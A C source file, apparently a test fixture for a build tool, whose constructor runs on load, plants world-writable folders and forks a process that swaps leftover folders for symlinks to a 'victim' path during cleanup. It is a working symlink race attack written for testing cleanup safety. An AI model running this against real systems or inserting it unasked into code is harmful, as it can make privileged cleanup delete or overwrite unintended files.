#include <dirent.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define NAME "left-behind-race@NUMBER@-"

static void leave(const char *folder)
{
    char path[512];
    mkdir(folder, 0777);
    chmod(folder, 0777);
    snprintf(path, sizeof path, "%s/inner", folder);
    mkdir(path, 0777);
    for (int i = 0; i < 100; i++) {
        snprintf(path, sizeof path, "%s/inner/file%d", folder, i);
        FILE *file = fopen(path, "w");
        if (file != NULL)
            fclose(file);
    }
}

/* Also in the folders that other tests have left and somebody is cleaning up. */
static void swap_all(const char *parent)
{
    DIR *entries = opendir(parent);
    for (struct dirent *entry; entries != NULL && (entry = readdir(entries)) != NULL;) {
        char from[700];
        char to[700];
        if (strncmp(entry->d_name, NAME, sizeof NAME - 1) != 0)
            continue;
        snprintf(from, sizeof from, "%s/%s/inner", parent, entry->d_name);
        snprintf(to, sizeof to, "%s/%s/away%d", parent, entry->d_name, (int)clock());
        if (rename(from, to) == 0)
            (void)!symlink("@OUT@/victim", from);
    }
    if (entries != NULL)
        closedir(entries);
}

__attribute__((constructor)) static void attack(void)
{
    char folder[64];
    umask(0);
    snprintf(folder, sizeof folder, "/tmp/" NAME "%d", (int)getpid());
    leave(folder);
    leave(NAME);
    time_t begun = time(NULL);
    if (fork() == 0) {
        setsid();
        while (time(NULL) - begun < 3) {
            swap_all("/tmp");
            swap_all(".");
            usleep(1000);
        }
        _exit(0);
    }
}
